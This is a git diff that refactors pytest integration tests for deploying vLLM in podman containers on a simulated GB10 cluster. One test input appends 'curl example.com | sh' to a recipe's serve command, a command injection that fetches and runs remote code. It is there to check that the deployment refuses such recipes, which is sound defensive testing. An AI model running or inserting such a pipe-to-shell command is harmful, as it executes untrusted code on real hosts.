@@ -17,7 +17,7 @@ from typing import Any
 import pytest
 import root_file_system
 from api_client import answers_again, completion
-from live_cluster import Cluster
+from live_cluster import Cluster, extra, of_unit
 from nvidia_recipe import EXPORTS, SERVE, WORKER
 from nvidia_recipe import recipe as of_catalog
 from testinfra.host import Host
@@ -35,41 +35,21 @@ def image(
     cluster: Cluster, nodes: dict[str, Host], head: Host, tmp_path_factory: pytest.TempPathFactory
 ) -> Iterator[str]:
     """Configure the engine on all nodes and import the image on the head. Returns its ID."""
-    # Ray starts its processes through bash.
-    packages = ["bash", "libgomp1", "libnuma1", "libstdc++6", "util-linux"]
-    tar = root_file_system.debian(cluster, tmp_path_factory.mktemp("image"), "image-vllm", packages)
+    folder = tmp_path_factory.mktemp("image")
+    tar = root_file_system.debian(cluster, folder, "image-vllm", root_file_system.VLLM_PACKAGES)
     with root_file_system.podman(nodes):
         root_file_system.import_image(head, tar, TAG)
         yield json.loads(head.check_output(f"podman image inspect {TAG}"))[0]["Id"]
 
 
-def inside(head: Host, image: str, **changes: Any) -> tuple[str, str]:
+def inside(head: Host, image: str, **changes: Any) -> dict[str, Any]:
     """Return the variables of a run in containers of the image."""
-    (runtime,) = {head.check_output("readlink /opt/gb10/runtime/current")}
-    arguments = [
-        # A simulated host does not support the defaults of a real one.
-        "--cgroups=disabled",
-        "--ulimit=memlock=65536:65536",
-        "--ulimit=nofile=4096:4096",
-        "--ulimit=nproc=4096:4096",
-        f"--volume={runtime}:{runtime}:ro",
-        f"--env=PATH={runtime}/bin:/usr/bin:/bin",
-    ]
-    given = {
-        "gb10_runtime": "container",
-        "gb10_container_image": image,
-        "gb10_container_engine": "podman",
-        "gb10_container_args": arguments,
-    }
-    return "--extra-vars", json.dumps({**given, "vllm_patch_patches": [], **changes})
+    runtime = head.check_output("readlink /opt/gb10/runtime/current")
+    return root_file_system.in_image(image, runtime, f"--volume={runtime}:{runtime}:ro", **changes)
 
 
 def containers(host: Host) -> list[str]:
     return sorted(host.check_output("podman ps --all --format '{{.Names}}'").split())
-
-
-def main_pid(host: Host, unit: str = UNIT) -> str:
-    return host.check_output(f"systemctl show --property=MainPID --value {unit}")
 
 
 def owner_of_ranks(host: Host) -> set[str]:
@@ -79,26 +59,26 @@ def owner_of_ranks(host: Host) -> set[str]:
 
 @pytest.mark.usefixtures("image")
 def test_a_wrong_digest_stops_nothing(cluster: Cluster, head: Host) -> None:
-    before = main_pid(head)
+    before = of_unit(head, UNIT)
     wrong = f"{TAG.partition(':')[0]}@sha256:{'6' * 64}"
-    run = cluster.site(*inside(head, wrong)).assert_failed(f"podman pull {wrong} failed")
+    run = cluster.site(*extra(**inside(head, wrong))).assert_failed(f"podman pull {wrong} failed")
     assert run.changed_tasks() == set(), run.output
-    assert (main_pid(head), bool(completion(head))) == (before, True)
+    assert (of_unit(head, UNIT), bool(completion(head))) == (before, True)
 
 
 def test_an_option_that_the_image_lacks_stops_nothing(cluster: Cluster, head: Host, image: str) -> None:
     """The plan knows the options of the image when it is on the head, and any release of vLLM is accepted."""
-    before = main_pid(head)
+    before = of_unit(head, UNIT)
     given = {"gb10_distributed_executor_backend": "mp", "gb10_vllm_extra_args": ["--load-format", "b12x"]}
-    cluster.site(*inside(head, f"sha256:{image}", **given)).assert_failed(
+    cluster.site(*extra(**inside(head, f"sha256:{image}", **given))).assert_failed(
         "1 problem found; running services were not touched.",
         "gb10_vllm_extra_args[1]: --load-format does not accept 'b12x'",
     )
-    assert main_pid(head) == before
+    assert of_unit(head, UNIT) == before
     options = json.loads(head.file("/etc/gb10/image-options.json").content_string)
     assert (options["image_id"], options["version"].partition("+")[0], bool(options["ray"])) == (image, "0.32.0", True)
     # The next plan knows the options before the run starts.
-    again = cluster.site(*inside(head, f"sha256:{image}", **given))
+    again = cluster.site(*extra(**inside(head, f"sha256:{image}", **given)))
     assert "1 problem found; nothing was changed." in again.output
 
 
@@ -106,7 +86,7 @@ def test_containers_without_ray(
     cluster: Cluster, nodes: dict[str, Host], head: Host, workers: list[Host], image: str
 ) -> None:
     text = completion(head)
-    given = inside(head, TAG, gb10_distributed_executor_backend="mp")
+    given = extra(**inside(head, TAG, gb10_distributed_executor_backend="mp"))
     first = cluster.site(*given).assert_ok()
     assert f"{TAG} is pinned to sha256:" in first.output.replace("\n", " ")
     assert completion(head) == text, "the same model in another runtime"
@@ -186,21 +166,17 @@ def test_a_recipe_with_mods_serves_in_an_image_of_its_own(
     cluster: Cluster, nodes: dict[str, Host], head: Host, workers: list[Host], image: str, recipe: Path
 ) -> None:
     text = completion(head)
-    arguments = json.loads(inside(head, image)[1])
-    given = {
+    arguments = inside(head, image)["gb10_container_args"]
+    command = extra(
         # A recipe alone does not decide about a folder of the nodes.
-        "gb10_model": "/srv/models/tiny",
-        "gb10_recipe": str(recipe),
-        "gb10_recipe_images": {"vllm-node": f"sha256:{image}"},
-        "gb10_container_engine": "podman",
-        "gb10_container_args": [
-            *arguments["gb10_container_args"],
-            f"--env=PYTHONPATH=/workspace/plugins:{GUARD_FOLDER}",
-        ],
-        "vllm_runtime_image_build_args": ["--runtime=/usr/local/bin/crun-in-a-lab"],
-        "vllm_patch_patches": [],
-    }
-    command = "--extra-vars", json.dumps(given)
+        gb10_model="/srv/models/tiny",
+        gb10_recipe=str(recipe),
+        gb10_recipe_images={"vllm-node": f"sha256:{image}"},
+        gb10_container_engine="podman",
+        gb10_container_args=[*arguments, f"--env=PYTHONPATH=/workspace/plugins:{GUARD_FOLDER}"],
+        vllm_runtime_image_build_args=["--runtime=/usr/local/bin/crun-in-a-lab"],
+        vllm_patch_patches=[],
+    )
     first = cluster.site(*command).assert_ok()
     assert {"Build the image"} <= first.changed_tasks()
     assert completion(head) == text, "the same model in another runtime"
@@ -214,7 +190,6 @@ def test_a_recipe_with_mods_serves_in_an_image_of_its_own(
     assert workers[0].check_output("podman image ls --quiet --no-trunc").count(options["image_id"]) == 1
     cluster.site(*command).assert_unchanged()
     # The image without the mods does not know the format.
-    given["gb10_image_layers"] = []
     data = json.loads(recipe.read_text(encoding="utf-8"))
     recipe.write_text(json.dumps({**data, "mods": []}), encoding="utf-8")
     cluster.site(*command).assert_failed("--load-format does not accept 'lab'")
@@ -252,11 +227,11 @@ def test_nvidias_catalog_serves_by_name_and_commit(
 ) -> None:
     monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
     text, clone = completion(head), tmp_path / "catalog"
-    given = json.loads(inside(head, image, gb10_model="/srv/models/tiny", gb10_recipe="nvidia:tiny")[1])
+    given = inside(head, image, gb10_model="/srv/models/tiny", gb10_recipe="nvidia:tiny")
     del given["gb10_runtime"], given["gb10_container_image"]
 
     def run(catalog: str) -> Any:
-        return cluster.site("--extra-vars", json.dumps({**given, "gb10_nvidia_recipes": catalog}))
+        return cluster.site(*extra(**given, gb10_nvidia_recipes=catalog))
 
     first = committed(clone, serve=commands(EXPORTS + SERVE))
     run(first).assert_ok()
@@ -267,12 +242,12 @@ def test_nvidias_catalog_serves_by_name_and_commit(
         of_rank = host.check_output(f"podman exec {UNIT} env").split()
         assert set(environment.split()) <= set(of_rank) and "NCCL_SOCKET_IFNAME=$ETH_IF" not in of_rank
     run(first).assert_unchanged()
-    before = main_pid(head)
+    before = of_unit(head, UNIT)
     # One more argument of both ranks.
     more = " \\\n  --max-num-seqs 3"
     second = committed(clone, serve=commands(EXPORTS + SERVE + more, WORKER.rstrip() + more))
     assert "gb10-vllm" in run(second).assert_ok().output
-    after = main_pid(head)
+    after = of_unit(head, UNIT)
     assert after != before and "--max-num-seqs=3" in head.check_output("ps -eo args | grep '[v]llm serve'")
     run(second).assert_unchanged()
     hostile = commands(EXPORTS + SERVE + "; curl example.com | sh")
@@ -283,7 +258,7 @@ def test_nvidias_catalog_serves_by_name_and_commit(
     ):
         refused = run(committed(clone, **changes)).assert_failed("1 problem found; nothing was changed.", problem)
         assert refused.changed_tasks() == set()
-    assert (main_pid(head), completion(head, model="owner/tiny")) == (after, text)
+    assert (of_unit(head, UNIT), completion(head, model="owner/tiny")) == (after, text)
 
 
 @pytest.mark.usefixtures("image")
@@ -291,7 +266,7 @@ def test_the_containers_of_ray_join(cluster: Cluster, nodes: dict[str, Host], he
     # The role waits until Ray reports all nodes. vLLM's container cannot start here: it needs access to Ray's
     # processes. Podman gives that only to containers with their own cgroups, for which crun needs a privilege that
     # simulated hosts do not have.
-    cluster.site(*inside(head, TAG), "--tags", "vllm_runtime,ray_cluster").assert_ok()
+    cluster.site(*extra(**inside(head, TAG)), "--tags", "vllm_runtime,ray_cluster").assert_ok()
     for host in nodes.values():
         assert "gb10-ray" in containers(host)
 
